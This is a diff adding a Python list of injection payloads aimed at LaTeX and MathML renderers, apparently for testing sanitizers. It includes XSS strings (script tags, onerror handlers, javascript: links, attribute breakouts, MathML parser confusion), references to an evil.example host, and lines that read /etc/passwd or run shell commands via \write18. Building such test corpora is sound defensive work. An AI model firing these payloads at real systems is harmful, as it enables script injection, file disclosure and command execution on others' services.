@@ -1,0 +1,30 @@
+"""Attacks by formulas: what LaTeX and MathML may be led to write."""
+
+FAMILIES: dict[str, list[str]] = {
+    "formulas": [
+        r"$\text{<script>alert(1)</script>}$",
+        r"$\text{&lt;img src=x onerror=alert(1)&gt;}$",
+        r"$\mathrm{<img src=x onerror=alert(1)>}$",
+        r"$\operatorname{<svg onload=alert(1)>}$",
+        r"$\href{javascript:alert(1)}{x}$",
+        r"$\url{javascript:alert(1)}$",
+        r"$\class{point}{x}$ $\cssId{main}{x}$ $\style{position:fixed;inset:0}{x}$",
+        r"$\unicode{x3C}script\unicode{x3E}alert(1)$",
+        r'$x" onmouseover="alert(1)$',
+        r"$x' onmouseover='alert(1)$",
+        r'$\text{"><img src=x onerror=alert(1)>}$',
+        r"$$\text{</math><script>alert(1)</script>}$$",
+        r"\[ </annotation></semantics></math><img src=x onerror=alert(1)> \]",
+        r"\( <mglyph src=https://evil.example/x.png> \)",
+        r"$\begin{array}{c\" onclick=\"alert(1)} a \end{array}$",
+        r"$\hspace{1px\" onclick=\"alert(1)}$",
+        r"$\color{red\" onclick=\"alert(1)}{x} \bbox[url(//evil.example/x)]{y}$",
+        r"$\def\x{\text{<script>alert(1)</script>}}\x$",
+        r"$\input{/etc/passwd} \write18{id} \includegraphics{//evil.example/x.png}$",
+        "<math><mtext><script>alert(1)</script></mtext></math>",
+        "<math href=javascript:alert(1)>x</math>",
+        "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
+        "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml>",
+        "<math><mi><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>",
+    ],
+}
